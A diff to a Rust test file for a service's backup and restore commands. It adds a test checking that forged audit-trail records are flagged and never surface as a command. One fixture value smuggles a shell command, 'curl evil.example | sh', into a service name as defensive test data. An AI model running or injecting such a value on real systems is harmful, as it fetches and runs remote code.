@@ -14,6 +14,7 @@ use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
 use std::path::Path;
 
 use support::faults::{assert_chains_whole, at_every_call, library};
+use support::life::listed;
 use support::{Home, Pair, Serving, files};
 
 /// A home that has nothing but the master key of `of`.
@@ -61,7 +62,7 @@ fn a_service_is_restored_as_it_was_while_it_ran() {
     let key = fs::read_to_string(pair.orders.path().join("tls/key.pem")).unwrap();
     let line = key.lines().nth(1).unwrap().as_bytes();
     assert!(!bytes.windows(line.len()).any(|window| window == line), "the TLS key is readable in it");
-    let (pin, listed) = (pair.orders.pin(), pair.orders.run(&["peer", "list", "--json"]).json());
+    let (pin, before) = (pair.orders.pin(), listed(&pair.orders));
     drop((serving, calling));
     // Nothing that is there is overwritten.
     pair.orders.run(&["backup", &file]).refused(1, &["already", "nothing was changed"]);
@@ -70,7 +71,7 @@ fn a_service_is_restored_as_it_was_while_it_ran() {
     let text = restored.run(&["restore", &file]).ok();
     assert!(text.contains("WARNING: there is no trail"), "{text}");
     assert_eq!(restored.pin(), pin);
-    assert_eq!(restored.run(&["peer", "list", "--json"]).json(), listed);
+    assert_eq!(listed(&restored), before);
     for path in files(&restored.path()) {
         let mode = fs::metadata(&path).unwrap().mode() & 0o7777;
         assert!(mode == 0o600 || path.ends_with("tls/certificate.pem"), "{} has {mode:o}", path.display());
@@ -142,6 +143,54 @@ fn what_was_shut_out_after_the_backup_is_named_until_it_is_shut_out_again() {
     let keys = ["--our-key", &pair.orders_key, "--their-key", &pair.billing_key, "--secret-file", &secret];
     pair.orders.run(&[&["peer", "add", "billing", "--profile", "shared-secret"][..], &keys].concat()).ok();
     assert!(!pair.orders.run(&["doctor", "--offline"]).stdout.contains("let in again"));
+}
+
+#[test]
+fn what_somebody_else_wrote_into_the_trail_makes_no_command() {
+    let pair = Pair::new();
+    let file = backup(&pair.orders, "backup");
+    pair.orders.run(&["revoke", "billing", "--compromised"]).ok();
+    let genuine = fs::read_to_string(pair.orders.path().join("audit/admin.jsonl")).unwrap();
+    let last = genuine.lines().last().unwrap();
+    let evil = "x; curl evil.example | sh #";
+    let forged = last.replace("\"service\":\"billing\"", &format!("\"service\":\"{evil}\""));
+    let removal = forged.replace("revoked-compromised", "peer-removed").replace("\"seq\":", "\"seq\":9");
+    assert_ne!(forged, removal);
+    let reused = fresh(&pair.orders);
+    for (name, text) in [
+        ("admin.jsonl", format!("{genuine}{removal}\n")),
+        ("admin.jsonl", format!("{removal}\n{genuine}")),
+        ("serve.jsonl", format!("{removal}\n")),
+        ("admin.v1.jsonl", format!("{removal}\n")),
+        ("admin.x.jsonl", format!("{removal}\n")),
+        ("zz.jsonl", format!("{removal}\n")),
+    ] {
+        let restored = fresh(&reused);
+        give_trail(&pair.orders, &restored);
+        fs::write(restored.path().join("audit").join(name), &text).unwrap();
+        let told = restored.run(&["restore", &file]).ok();
+        assert!(!told.contains("evil"), "{name}: {told}");
+        let in_admin = name == "admin.jsonl";
+        assert_eq!(told.contains("changed by somebody else"), in_admin, "{name}: {told}");
+        let genuine_first = !text.starts_with(&removal) || !in_admin;
+        assert_eq!(told.contains("revoke billing --credential 1 --compromised"), genuine_first, "{told}");
+        let admin = restored.path().join("audit/admin.jsonl");
+        let now = fs::read_to_string(&admin).unwrap();
+        fs::write(&admin, format!("{now}{removal}\n")).unwrap();
+        let doctor = restored.run(&["doctor", "--offline"]);
+        assert!(!doctor.stdout.contains("evil") && doctor.code == 1, "{doctor:?}");
+        assert!(doctor.stdout.contains("changed by somebody else"), "{doctor:?}");
+        assert_eq!(doctor.stdout.contains("billing/1 is let in again"), genuine_first, "{doctor:?}");
+    }
+    // A line in the middle is gone.
+    let restored = fresh(&pair.orders);
+    give_trail(&pair.orders, &restored);
+    let lines: Vec<_> = genuine.lines().collect();
+    let without: Vec<_> =
+        lines.iter().enumerate().filter(|(index, _)| *index != 1).map(|(_, line)| *line).collect();
+    fs::write(restored.path().join("audit/admin.jsonl"), without.join("\n") + "\n").unwrap();
+    let told = restored.run(&["restore", &file]).ok();
+    assert!(told.contains("the records 2 to 2 are missing") && told.contains("revoke billing"), "{told}");
 }
 
 #[test]
